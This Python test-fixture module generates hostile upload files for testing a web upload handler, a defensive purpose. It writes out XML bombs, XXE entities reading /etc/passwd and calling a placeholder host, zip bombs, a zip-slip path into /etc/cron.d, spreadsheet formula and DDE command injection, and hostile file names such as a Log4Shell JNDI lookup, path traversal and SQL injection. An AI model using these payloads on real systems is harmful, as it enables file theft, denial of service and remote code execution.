"""Files that mean harm, made anew for each run; none is kept in the tree. And a body that nobody holds as a whole."""

import io
import json
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

MARK = "FORGED"  # in names and cells: must reach no log line of its own, and no cell that calculates
LISTED = "External ID,Date,City,Killed\n"
BOMB = 120 * 2**20

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><x>&j;</x>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/x">]><x>&e;</x>'
SECRETS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
PICTURE = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    '=HYPERLINK("http://192.0.2.1")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
)


@dataclass(frozen=True)
class Hostile:
    """One file, and the name that it bears."""

    what: str
    made: bytes | Callable[[], bytes]  # what takes long to make is made when it is wanted
    name: str = "list.csv"

    @property
    def content(self) -> bytes:
        """Its bytes."""
        return self.made if isinstance(self.made, bytes) else self.made()


def archive(**parts: bytes | str) -> bytes:
    """A zip archive; names of parts are given with `__` for `/`."""
    return zipped({name.replace("__", "/"): content for name, content in parts.items()})


def zipped(parts: dict[str, bytes | str]) -> bytes:
    """A zip archive of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return file.getvalue()


def workbook(sheet: str = "<worksheet/>", **more: bytes | str) -> bytes:
    """A workbook with this sheet, as far as a reader looks before it trusts."""
    book = (
        '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    links = (
        '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet"/></Relationships>'
    )
    parts = {
        "[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": links,
        "xl/worksheets/sheet1.xml": sheet,
    }  # fmt: skip
    return zipped({**parts, **{name.replace("__", "/"): content for name, content in more.items()}})


def lying_about_size(content: bytes) -> bytes:
    """The same archive, which now says that its parts are small."""
    lying, at = bytearray(content), 0
    while (at := lying.find(b"PK\x01\x02", at)) >= 0:
        struct.pack_into("<I", lying, at + 24, 10)
        at += 4
    return bytes(lying)


def bombs() -> Iterator[Hostile]:
    """Small files that grow."""
    yield Hostile("XML bomb", LAUGHS.encode(), "list.xml")
    yield Hostile("XML that asks the network", OUTSIDE.encode(), "list.xml")
    yield Hostile("zip bomb", lambda: archive(a=b"0" * BOMB), "list.zip")
    yield Hostile("zip bomb in a zip bomb", lambda: archive(a=archive(a=b"0" * BOMB)), "list.zip")
    yield Hostile(
        "workbook with a bomb as its sheet", lambda: workbook(f"<worksheet>{' ' * BOMB}</worksheet>"), "a.xlsx"
    )
    yield Hostile("workbook with laughing texts", workbook(xl__sharedStrings__xml=LAUGHS), "a.xlsx")
    yield Hostile("workbook whose sheet laughs", workbook(LAUGHS), "a.xlsx")
    yield Hostile("workbook that asks the network", workbook(OUTSIDE), "a.xlsx")
    yield Hostile("workbook that reads files", workbook(SECRETS), "a.xlsx")
    yield Hostile("workbook that lies about its size", lying_about_size(workbook(" " * 2**20)), "a.xlsx")
    yield Hostile("workbook with 6,000 parts", lambda: workbook(**{f"x__{n}": b"" for n in range(6_000)}), "a.xlsx")
    yield Hostile("archive that climbs out", zipped({"../../../etc/cron.d/x": "x", "xl/workbook.xml": "x"}), "a.xlsx")
    nested = "[" * 100_000
    yield Hostile("JSON without a floor", nested.encode(), "list.json")
    yield Hostile("JSON objects without a floor", ('{"a":' * 100_000).encode(), "list.json")
    yield Hostile("JSON of one huge number", ('[{"a":' + "9" * 200_000 + "}]").encode(), "list.json")
    yield Hostile("JSON of no numbers", b'[{"a":NaN,"b":Infinity,"c":1e999}]', "list.json")
    yield Hostile("JSON with half letters", b'[{"External ID":"\\ud800","Date":"\\u0000"}]', "list.json")


def half_files() -> Iterator[Hostile]:
    """Files that are something else, or two things, or less than a thing."""
    book = workbook()
    yield Hostile("nothing", b"")
    yield Hostile("half a workbook", book[: len(book) // 2], "a.xlsx")
    yield Hostile("workbook with flipped bytes", bytes(b ^ (n % 97 == 5) for n, b in enumerate(book)), "a.xlsx")
    yield Hostile("PDF and workbook", b"%PDF-1.7\n" + book, "a.pdf")
    yield Hostile("picture and page", PICTURE + b"<html><script>alert(1)</script>", "a.html")
    yield Hostile("page", b"<!doctype html><script>alert(1)</script>", "a.csv")
    yield Hostile("drawing with a script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "a.svg")
    yield Hostile("picture with junk", PICTURE + bytes(range(256)) * 400, "a.jpg")
    yield Hostile("PDF with junk", b"%PDF-1.7\n" + bytes(range(256)) * 400, "a.pdf")
    yield Hostile("program", b"MZ\x90\0" + bytes(5_000), "photo.jpg.exe")
    yield Hostile("old container with junk", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000), "a.xls")
    yield Hostile(
        "old workbook with junk",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + bytes(range(256)) * 90,
        "a.xls",
    )


def odd_tables() -> Iterator[Hostile]:
    """Tables that a reader may trip over."""
    cells = "".join(f'{n},"{cell}",Swat,x\n' for n, cell in enumerate(FORMULAS))
    yield Hostile("formulas", (LISTED + cells).encode())
    yield Hostile("formulas as headings", (",".join(FORMULAS[:4]) + "\n1,2,3,4\n").encode())
    yield Hostile("an open quotation mark", (LISTED + '1,"' + "a" * 3_000_000).encode())
    yield Hostile("one endless line", b"a" * 5_000_000)
    yield Hostile("too many columns", (",".join(f"c{n}" for n in range(5_000)) + "\n1\n").encode())
    yield Hostile("noughts", LISTED.encode() + b"1,\0\0\0,\0,3\n" * 50)
    yield Hostile("half letters", LISTED.encode() + b"1,\xff\xfe\xc3\x28,\xed\xa0\x80,3\n" * 50)
    yield Hostile("UTF-16 that breaks off", (LISTED * 9).encode("utf-16")[:-1])
    yield Hostile("byte order marks", b"\xef\xbb\xbf\xff\xfe\xfe\xff" + LISTED.encode())
    yield Hostile("turned letters", (LISTED + "1,\u202e2014-05-17\u202c,\u2067Swat,3\n").encode())
    yield Hostile("forged lines", (LISTED + f'1,"\r\n{MARK} line",Swat,3\n').encode())
    yield Hostile("numbers beyond measure", (LISTED + f"1,17/05/99999,Swat,{'9' * 400}\n").encode())
    yield Hostile("only line ends", b"\r\n" * 50_000)


def odd_names() -> Iterator[Hostile]:
    """Names that hold more than a name; the content is a plain list."""
    plain = (LISTED + "1,17/05/2014,Swat,3\n").encode()
    names = (
        "../../../../etc/passwd", "..\\..\\windows\\system32\\x.csv", "/etc/shadow", "C:\\CON", "list\u202evsc.exe",
        f"a\r\n{MARK} b.csv", f"a%0d%0a{MARK}.csv", "a\0b.csv", "=1+1.csv", "<script>alert(1)</script>.csv",
        "' or 1=1 --",
        "a" * 4_000 + ".csv", "\u2066\u2069\u200f", ".", "..", "%s%s%n", "${jndi:ldap://192.0.2.1/x}", "گل بی بی.csv",
    )  # fmt: skip
    for name in names:
        yield Hostile(f"the name {json.dumps(name[:30])}", plain, name)


def corpus() -> list[Hostile]:
    """All of them."""
    groups: tuple[Callable[[], Iterator[Hostile]], ...] = (bombs, half_files, odd_tables, odd_names)
    return [one for group in groups for one in group()]


class Body:
    """A form with one file of a size, as it comes over the line: never held, cut where it is told to be."""

    boundary = "x" * 20

    def __init__(self, size: int, fields: dict[str, str], *, cut: int | None = None) -> None:
        head = "".join(
            f'--{self.boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            for name, value in fields.items()
        )
        head += f'--{self.boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\n\r\n'
        self.head, self.tail = head.encode(), f"\r\n--{self.boundary}--\r\n".encode()
        self.length = len(self.head) + size + len(self.tail)
        self._left = [self.head, size, self.tail] if cut is None else [self.head, cut]
        self._zeros = b"0123456789abcdef" * 4096

    def read(self, size: int = -1) -> bytes:
        """The next bytes; nothing where the line broke."""
        while self._left:
            first = self._left[0]
            if isinstance(first, int):
                if first:
                    piece = self._zeros[: min(first, size if size >= 0 else len(self._zeros))]
                    self._left[0] = first - len(piece)
                    return piece
            elif first:
                piece, rest = (first, b"") if size < 0 else (first[:size], first[size:])
                self._left[0] = rest
                return piece
            self._left.pop(0)
        return b""

    readline = read

    def request(self, path: str) -> dict[str, object]:
        """For `client.request`."""
        return {
            "PATH_INFO": path,
            "REQUEST_METHOD": "POST",
            "CONTENT_TYPE": f"multipart/form-data; boundary={self.boundary}",
            "CONTENT_LENGTH": str(self.length),
            "wsgi.input": self,
        }
